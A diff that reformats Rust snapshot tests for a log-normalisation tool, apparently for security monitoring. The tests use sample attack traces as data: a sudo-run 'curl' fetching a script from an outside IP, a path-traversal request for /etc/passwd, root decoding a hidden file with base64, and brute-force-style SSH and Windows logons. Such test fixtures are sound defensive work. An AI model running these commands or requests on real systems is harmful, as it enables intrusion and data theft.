@@ -31,17 +31,23 @@ fn check_as(line: &str, hint: Option<&str>) -> String {
 
 #[test]
 fn an_sshd_line_is_a_logon() {
-    insta::assert_snapshot!(check("2026-11-21T11:59:01.5+00:00 WEB1 sshd[812]: Failed password for invalid user admin from ::ffff:203.0.113.9 port 52100 ssh2"));
+    insta::assert_snapshot!(check(
+        "2026-11-21T11:59:01.5+00:00 WEB1 sshd[812]: Failed password for invalid user admin from ::ffff:203.0.113.9 port 52100 ssh2"
+    ));
 }
 
 #[test]
 fn a_line_inside_json_is_the_same_event_with_the_outer_host() {
-    insta::assert_snapshot!(check(r#"{"message":"Accepted password for root from 203.0.113.9 port 52101 ssh2","source":"sshd","host":"Web1","pid":900,"team":"a"}"#));
+    insta::assert_snapshot!(check(
+        r#"{"message":"Accepted password for root from 203.0.113.9 port 52101 ssh2","source":"sshd","host":"Web1","pid":900,"team":"a"}"#
+    ));
 }
 
 #[test]
 fn a_journal_entry_is_a_syslog_event() {
-    insta::assert_snapshot!(check(r#"{"__REALTIME_TIMESTAMP":"1795262341000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sudo","_PID":"77","_TRANSPORT":"syslog","MESSAGE":"bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://203.0.113.9/x.sh"}"#));
+    insta::assert_snapshot!(check(
+        r#"{"__REALTIME_TIMESTAMP":"1795262341000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sudo","_PID":"77","_TRANSPORT":"syslog","MESSAGE":"bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://203.0.113.9/x.sh"}"#
+    ));
 }
 
 #[test]
@@ -51,7 +57,9 @@ fn a_cron_line_is_a_scheduled_job() {
 
 #[test]
 fn an_access_line_is_an_http_request() {
-    insta::assert_snapshot!(check(r#"203.0.113.9 - - [21/Nov/2026:12:00:01 +0000] "GET /../../etc/passwd?x=%27 HTTP/1.1" 404 162 "-" "curl/8""#));
+    insta::assert_snapshot!(check(
+        r#"203.0.113.9 - - [21/Nov/2026:12:00:01 +0000] "GET /../../etc/passwd?x=%27 HTTP/1.1" 404 162 "-" "curl/8""#
+    ));
 }
 
 #[test]
@@ -74,18 +82,26 @@ fn a_file_written_under_cron_is_a_file_event() {
 
 #[test]
 fn a_failed_logon_of_windows_names_both_users() {
-    insta::assert_snapshot!(check(r#"{"EventID":4625,"Channel":"Security","Computer":"DC1.corp.example","TargetUserName":"admin","SubjectUserName":"-","IpAddress":"203.0.113.9","IpPort":"50000","TargetLogonId":"0x0"}"#));
+    insta::assert_snapshot!(check(
+        r#"{"EventID":4625,"Channel":"Security","Computer":"DC1.corp.example","TargetUserName":"admin","SubjectUserName":"-","IpAddress":"203.0.113.9","IpPort":"50000","TargetLogonId":"0x0"}"#
+    ));
 }
 
 #[test]
 fn a_sysmon_process_has_parent_and_hashes() {
-    insta::assert_snapshot!(check(r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"W1","ProcessId":7112,"Image":"C:\\Windows\\System32\\reg.exe","CommandLine":"reg query HKLM","User":"CORP\\bob","ParentProcessId":6304,"ParentImage":"C:\\Windows\\cmd.exe","Hashes":"MD5=EB20E119AAF500E2752DC5A588B54C12"}"#));
+    insta::assert_snapshot!(check(
+        r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"W1","ProcessId":7112,"Image":"C:\\Windows\\System32\\reg.exe","CommandLine":"reg query HKLM","User":"CORP\\bob","ParentProcessId":6304,"ParentImage":"C:\\Windows\\cmd.exe","Hashes":"MD5=EB20E119AAF500E2752DC5A588B54C12"}"#
+    ));
 }
 
 #[test]
 fn other_json_keeps_its_names_and_gives_what_it_says() {
-    insta::assert_snapshot!(check(r#"{"Image":"/usr/bin/base64","CommandLine":"base64 -d /tmp/.x","User":"root","ParentImage":"/usr/bin/bash","host":"web1"}"#));
-    insta::assert_snapshot!(check(r#"{"source":{"ip":"203.0.113.9"},"destination":{"ip":"10.0.0.1","port":443},"host":{"name":"FW1"}}"#));
+    insta::assert_snapshot!(check(
+        r#"{"Image":"/usr/bin/base64","CommandLine":"base64 -d /tmp/.x","User":"root","ParentImage":"/usr/bin/bash","host":"web1"}"#
+    ));
+    insta::assert_snapshot!(check(
+        r#"{"source":{"ip":"203.0.113.9"},"destination":{"ip":"10.0.0.1","port":443},"host":{"name":"FW1"}}"#
+    ));
 }
 
 #[test]
@@ -113,7 +129,11 @@ fn everything(bytes: &[u8]) {
     for hint in [None, Some("sshd"), Some("nginx"), Some("auditd"), Some("windows"), Some("auth")] {
         let seen = recognise(bytes, hint);
         let (normalised, _) = normalise_parts(&seen.source, seen.format, bytes);
-        assert!(serde_json::from_str::<serde_json::Value>(&normalised.flat).is_ok_and(|flat| flat.is_object()), "{}", normalised.flat);
+        assert!(
+            serde_json::from_str::<serde_json::Value>(&normalised.flat).is_ok_and(|flat| flat.is_object()),
+            "{}",
+            normalised.flat
+        );
         let _ = crate::event_time(&seen, bytes, received, &Limits::default());
     }
     for format in [formats::SYSLOG, formats::ACCESS, formats::AUDIT, formats::WINDOWS, formats::JSON, formats::TEXT] {
